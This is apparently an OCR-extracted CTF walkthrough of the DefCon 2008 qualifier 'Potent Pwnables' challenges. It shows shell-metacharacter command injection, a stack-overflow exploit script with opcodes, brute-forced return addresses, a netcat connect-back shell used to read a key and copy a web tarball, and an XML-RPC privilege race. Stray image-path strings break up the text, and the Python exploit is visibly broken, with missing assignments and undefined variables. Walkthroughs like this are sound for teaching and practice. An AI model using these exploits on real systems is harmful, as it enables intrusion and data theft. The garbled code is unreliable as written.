Potent Pwnables Walkthrough (DefCon CTF 2008 Qualifiers)
This category and "Real World" are the most like the full DefCon CTF. While the other are related or fun, this really does test a team's ability to get a shell on a running service. Unfortunately Binary Leetness really slowed everyone down, and the last two questions were never opened.(Word has it that 500 was going to kick all your asses.)
100: Love you long time?
For this one, you needed to be logged into the Kenshoto mud. There was another player logged in named "Killa". Through some trial-and-error, it was clear this "service" was tied to the "finger" command:
> tell killa hello
You tell Killa hello.
Killa tells you hello: no such user.
> tell killa root
Killa tells you Login: root                             Name: root
Killa tells you Directory: /                            Shell: /bin/sh
Killa tells you Last loginThu May 26 19:44 (EDT) on tty3
Killa tells you No mail.
Killa tells you No Plan.
One of the most common shell command errors is to not handle meta characters, so we tried that:
> tell killa asdf;ls
Killa tells you asdf: no such user.
Killa tells you killabot.py
Killa tells you key
> tell killa asdf;cat key
Killa tells you asdf: no such user.
Killa tells you CoooOOOoooold blooded
And for a while, the login password for Killa was visiblein the script, which caused all kinds of problems while teams kept trying to log in as Killa. (And then later in more advanced stages when teams got shells on the box, the password was visible in "ps" output -- much to Metr0's discomfort.)
200: Smushing the stack for phun and prophet
After spending time identifying main (0x08049010), the init routine (08048B74), and tracking down the child handler (0x08048FB8) pushed to the listener (0x08048CFC) and working out all the arguments to the "read_until" routine (08048A48), we find a 32 byte read into a 24 byte buffer by the handler:
push    0Ah     ; term_char
push    20h     ; bufsize
lea eax, [ebp+buffer]
push    eax     ; buffer (dword ptr -18h)
push    [ebp+fildes]    ; fildes
call    read_until
This appears to be a classic stack overflow, but with not a lot of space for a shell code. While there may have been easier ways to handle this, we opted to re-call the "read_until" function, similar to how Pwnage300 from 2007 was solved: just adjust the stack and call the read again to give you more space. We should probably investigate staged exploits...
For initial testing, we could crash the service with a return address at byte position 28:
perl-e "print "\x90" x 28 . pack("V", 0x41414141) . "\n"' | nc -v -v -v localhost 5641
This would segv at address AAAA, as expected. Now we could examine the register values and the state of the stack:
(gdb) info regs
eax            0x0    0
ecx            0x17 23
edx            0xa  10
ebx            0x1  1
esp            0xbfbfec00   0xbfbfec00
ebp            0x90909090   0x90909090
(gdb) x/4x 0xbfbfec00
0xbfbfec00: 0x00000004  0x28075000  0x280d1654  0x08048d3c
For the arguments to read_until, we needed the file descriptor (on the stack still: 4), the target (anywhere useful on the stack), a "max bytes" value large enough to hold our shellcode, and the terminating character (0x0a -- new line -- still in the EDX register). Additionally, since we're right on top of the current ESP, we'll need to move the stack out of the way before doing more work, since it's likely to clobber our opcodes. Each piece was handled in the "recall" opcodes below:
#!/usr//bin/env pythonimport sys, struct
from socket import *

# stack address target
addr = int(sys.argv[1],16)

# 58                      pop    %eax                  (get filedes)
# bc 00 f0 be bf          mov    $bfbef000,%esp        (move stack)
# 52                      push   %edx                  (push 0xa)
# 6a 7f                   push   byte 0x7f             (push limit)# ba 00 fe bf bf          mov    $0xbfbffe00,%edx      (set target)
# 52                      push   %edx                  (push target)
# 50                      push   %eax                  (push filedes)
# e8 <calculate>          call   0x8048a48             (call read_until)
# e8 <calculate>          call   0xbfbffe00            (call target)

# limited to 28 bytes for usable opcodes (address must be at 28)
target = 0xbfbfec06
read_until = 0x08048a48
call_read = addr + 20
"\xba"+struct.pack("<L", target)+\
"\xe8"+struct.pack("<L", read_until - (call_read+1))+\
"\xe8"+struct.pack("<L", target - (call_read+1+5))
if len(recall)>28:print "recall too long\n"
if '\x0a' in recall:
    print "recall has nl\n"
recall+=struct.pack("<L", addr)


conn = socket(AF_INET, SOCK_STREAM)
conn.connect(("", 5641))

reply = conn.recv(1024)
if 'Authenticate, bitches' not in reply:

conn.sendall( "%s\n" % (recall) )
conn.sendall( "%s\n" % (shell) )
Since the stack didn't seem to always be in the same place between our various FreeBSD 6.3 VMs, we just brute-forced it (slowly, one must be nice to the Kenshoto network):$ for a in f e d c b a 9 8 7 6 5 4 3 2 1 0; do \
    for i in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do \
        ./pwn200.py 0xbfbfe${a}${i}0; echo $a $i; \
        sleep 1; \
  done; done
It seemed to pop around the 0xbfbfeaxx range, when we got a nice connect-back from our shellcode. With our new shell, we just got a file listing, and dumped the key file:
$ nc -l 9991 -v
Connection from port 9999 [tcp/*] accepted
cat key
Sexual chocolate
And then we looked around the box and stole the entire web tree tarball that had accidentallybeen left world readable for Real World 500. Too bad that never opened...
300: Race ya
This was a Java service. To unpack:
$ jar tfv p300.jar
To run:
$ java -jar p300.jar
Which gets you a really interesting web-based login app on port 8001.
After examining this bundle, it turns out that it's an XMLPRC service. We can can get a dump of the methods via "listMethods":
#!/usr/bin/env python
import xmlrpclib
server = xmlrpclib.Server("")
for method in server.system.listMethods():
  print method
From here, we examined each of them:
createUser -- returns FALSE each time
getFlag -- 'You don't hae access to see the flag'
getPriv -- returns '1'
getRealFlag -- gave nasty midget sex pic
getSessionInfo -- when logged in, returns username/privlevel.  WE NEED TO MODPRIV LEVEL! :)
login -- (user, pass, sessid)registerSession -- get sessid
registerUser -- create an account
system.listMethods -- this help menu
system.methodHelp -- returned blank string
system.methodSignature -- 'signatures not supported'
welcomeUser -- called after login, but not sure why
Clearly the goal is to call "getFlag" successfully, but we need higher privileges thanthe default user has.
We noted that during the "registerUser" function, the user's privilegelevel was elevated repeatedly. We started to suspect we could abuse this race condition:
SESSID=`xmlrpc registerSession|grep String | cut -d"'" -f2`
xmlrpc registerUser user-$RANDOM pass-$RANDOM $SESSID &
xmlrpc getFlag $SESSID
In action:
$ ./racer.sh
400: NadaUnopened. *sad sigh*
500:Pwnulator 5000!
Unopened!Extreme bummer.

ctf 2008 quals